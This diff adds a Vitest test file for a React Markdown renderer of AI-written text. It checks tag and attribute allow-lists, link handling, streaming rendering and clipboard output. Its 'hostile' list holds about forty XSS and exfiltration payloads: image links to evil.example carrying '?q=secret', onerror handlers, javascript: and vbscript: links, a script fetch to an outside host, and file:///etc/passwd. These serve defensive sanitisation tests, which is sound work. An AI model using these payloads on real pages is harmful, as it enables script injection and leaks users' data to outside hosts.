@@ -1,0 +1,222 @@
+// @vitest-environment happy-dom
+import { cleanup, render } from '@testing-library/react'
+import fc from 'fast-check'
+import { afterEach, describe, expect, test } from 'vitest'
+import { splitter } from './blocks.ts'
+import { htmlOf, plainOf } from './clipboard.ts'
+import { Markdown } from './Markdown.tsx'
+
+afterEach(cleanup)
+
+const show = (text: string, writing = false) => render(<Markdown writing={writing}>{text}</Markdown>).container
+
+const allowed = new Set(
+  'DIV P H3 H4 H5 H6 UL OL LI STRONG EM CODE PRE BLOCKQUOTE TABLE THEAD TBODY TR TH TD HR BR A SPAN'.split(' '),
+)
+const attributes = new Set(['class', 'dir', 'data-depth', 'start', 'href', 'target', 'rel'])
+
+/** Nothing that runs, nothing that asks another host, no address but those that a person may press. */
+const harmless = (root: Element) => {
+  for (const element of root.querySelectorAll('*')) {
+    expect(allowed).toContain(element.tagName)
+    for (const { name } of element.attributes) expect(attributes).toContain(name)
+    if (element.hasAttribute('href')) expect(element.getAttribute('href')).toMatch(/^(?:https?|mailto):/)
+  }
+}
+
+const outside = 'https://evil.example/?q=secret'
+const hostile = [
+  `![x](${outside})`,
+  `![x](<${outside}>)`,
+  `![x](${outside} "title")`,
+  `![x][ref]\n\n[ref]: ${outside}`,
+  `![ref]\n\n[ref]: ${outside}`,
+  `[![x](${outside})](${outside})`,
+  `![x](//evil.example/a.png)`,
+  `![x](data:image/svg+xml;base64,PHN2Zy8+)`,
+  `![x](/logout)`,
+  `- ![x](${outside})`,
+  `| a |\n|---|\n| ![x](${outside}) |`,
+  `# ![x](${outside})`,
+  `**![x](${outside})**`,
+  `<img src="${outside}">`,
+  `<IMG SRC=${outside} onerror=alert(1)>`,
+  `text <img src=x onerror=alert(1)> text`,
+  `<picture><source srcset="${outside}"></picture>`,
+  `<video poster="${outside}"></video>`,
+  `<svg><image href="${outside}"/></svg>`,
+  `<link rel=stylesheet href="${outside}">`,
+  `<style>@import url(${outside})</style>`,
+  `<script>fetch("${outside}")</script>`,
+  `<iframe src="${outside}"></iframe>`,
+  `<form action="${outside}"><input name=a autofocus onfocus=alert(1)></form>`,
+  `<div style="position:fixed;inset:0;background:url(${outside})">`,
+  `<a href="javascript:alert(1)">press</a>`,
+  `<meta http-equiv=refresh content="0;url=${outside}">`,
+  `<!-- ![x](${outside}) --> <!doctype html><body onload=alert(1)>`,
+  '[press](javascript:alert(1))',
+  '[press](JaVaScRiPt:alert(1))',
+  '[press](javascript&colon;alert(1))',
+  '[press](java\nscript:alert(1))',
+  '[press](data:text/html,<script>alert(1)</script>)',
+  '[press](vbscript:msgbox(1))',
+  '[press](file:///etc/passwd)',
+  '[press](blob:https://evil.example/1)',
+  '<javascript:alert(1)>',
+  '[press]: javascript:alert(1)\n\n[press]',
+  `\`\`\`html\n<img src="${outside}">\n\`\`\``,
+  `&lt;img src=${outside}&gt; &#60;script&#62;alert(1)&#60;/script&#62;`,
+]
+
+describe('what a model may write', () => {
+  test.each(hostile)('is harmless: %s', text => {
+    harmless(show(text))
+    expect(htmlOf(text)).not.toMatch(
+      /<(?!\/?(?:p|h\d|ul|ol|li|strong|em|code|pre|blockquote|table|thead|tbody|tr|th|td|a|hr|br)\b)/,
+    )
+    expect(htmlOf(text)).not.toMatch(/href="(?!https?:|mailto:)/)
+  })
+
+  test.each(hostile)('is harmless while it is written, letter by letter: %s', text => {
+    const { container, rerender } = render(<Markdown writing>{''}</Markdown>)
+    for (let end = 1; end <= text.length; end++) {
+      rerender(<Markdown writing>{text.slice(0, end)}</Markdown>)
+      harmless(container)
+    }
+  })
+
+  test('whatever it is, it is harmless and stays readable', () => {
+    const piece = fc.constantFrom(
+      ...hostile,
+      '**',
+      '`',
+      '[',
+      '](',
+      '<',
+      '>',
+      '\n',
+      '\n\n',
+      '- ',
+      '| ',
+      '# ',
+      'Wort ',
+      '~~',
+      '_',
+    )
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 12 }), pieces => {
+        cleanup()
+        const shown = show(pieces.join(''))
+        harmless(shown)
+        if (pieces.includes('Wort ')) expect(shown.textContent).toContain('Wort')
+      }),
+      { numRuns: 60 },
+    )
+  })
+
+  test('pictures and HTML are shown as words', () => {
+    expect(show(`Sehen Sie ![den Plan](${outside}) hier.`).textContent).toBe('Sehen Sie den Plan hier.')
+    cleanup()
+    expect(show('<b onclick="x()">fett</b>').textContent).toBe('<b onclick="x()">fett</b>')
+  })
+
+  test('a link names its host and gives nothing away', () => {
+    const link = show('[Unser Angebot](https://shop.example/a?b=1)').querySelector('a')
+    expect(link?.parentElement?.textContent).toBe('Unser Angebot (shop.example)')
+    expect(link?.rel).toBe('noopener noreferrer nofollow')
+  })
+})
+
+describe('how it is drawn', () => {
+  test('headings stand below the heading of the page, lists keep their numbers', () => {
+    const shown = show('# Titel\n\n## Teil\n\n3. drei\n4. vier\n\n- [x] getan')
+    expect([...shown.querySelectorAll('h3, h4')].map(({ textContent }) => textContent)).toEqual(['Titel', 'Teil'])
+    expect(shown.querySelector('ol')?.start).toBe(3)
+    expect(shown.querySelector('ul')?.textContent).toBe('☑ getan')
+  })
+
+  test('gaps are marked and keep their brackets; numbers and links are no gaps', () => {
+    const shown = show('Am [Datum ergänzen] in [Ort], Quelle [1] und [hier](https://a.example).')
+    expect([...shown.querySelectorAll('.gap')].map(({ textContent }) => textContent)).toEqual([
+      '[Datum ergänzen]',
+      '[Ort]',
+    ])
+    expect(plainOf('in [Ort]')).toBe('in [Ort]')
+  })
+
+  test('half a bold word is bold while it is written, and its stars are never seen', () => {
+    expect(show('Das ist **wich', true).querySelector('strong')?.textContent).toBe('wich')
+    cleanup()
+    expect(show('Siehe [unser Ang', true).textContent).toBe('Siehe unser Ang')
+  })
+
+  test('lines end where the writer ended them, entities are the signs they stand for', () => {
+    const shown = show('Anna Weber\nLindenweg 4\nM&uuml;ller &amp; S&#246;hne')
+    expect(shown.querySelectorAll('br').length).toBe(2)
+    expect(shown.textContent).toContain('M&uuml;ller & Söhne')
+  })
+
+  test('only the last block is drawn again', () => {
+    const { container, rerender } = render(<Markdown writing>{'Eins.\n\nZwei'}</Markdown>)
+    const first = container.querySelector('p')
+    rerender(<Markdown writing>{'Eins.\n\nZwei und\n\nDrei'}</Markdown>)
+    expect(container.querySelector('p')).toBe(first)
+    expect(container.querySelectorAll('p').length).toBe(3)
+  })
+})
+
+describe('long and strange texts', () => {
+  test('a text that grows has the blocks it would have had at once, and they are the text', () => {
+    const piece = fc.constantFrom(
+      'Wort ',
+      '\n',
+      '\n\n',
+      '- eins\n',
+      '1. zwei\n',
+      '> Zitat\n',
+      '```\n',
+      '# Titel\n',
+      '| a |\n|---|\n',
+      '  ',
+    )
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 20 }), pieces => {
+        const split = splitter()
+        let text = ''
+        for (const more of pieces) split((text += more))
+        expect(split(text).join('')).toBe(text)
+      }),
+    )
+  })
+
+  test.each([
+    ['quotes in quotes', '>'.repeat(10_000)],
+    ['lists in lists', '1. '.repeat(6000)],
+    ['open brackets', '['.repeat(20_000)],
+    ['open stars', '**a '.repeat(5000)],
+    ['open pictures', '![a]('.repeat(4000)],
+    ['a megabyte on one line', 'Wort und '.repeat(110_000)],
+    ['indented three hundred deep', Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n')],
+  ])('%s are shown', (_, text) => {
+    expect(show(text).textContent?.length).toBeGreaterThan(10)
+  })
+})
+
+describe('on the clipboard', () => {
+  const text =
+    '# Titel\n\nEin **fetter** [Link](https://a.example/b).\n\n- eins\n- zwei\n  - drei\n\n| a | b |\n|---|---|\n| 1 | 2 |'
+
+  test('plain text has no Markdown in it', () => {
+    expect(plainOf(text)).toBe(
+      'Titel\n\nEin fetter Link (https://a.example/b).\n\n- eins\n- zwei\n  - drei\n\na\tb\n1\t2',
+    )
+  })
+
+  test('HTML keeps the form', () => {
+    expect(htmlOf(text)).toBe(
+      '<h1>Titel</h1><p>Ein <strong>fetter</strong> <a href="https://a.example/b">Link</a>.</p>' +
+        '<ul><li>eins</li><li>zwei<ul><li>drei</li></ul></li></ul>' +
+        '<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>',
+    )
+  })
+})
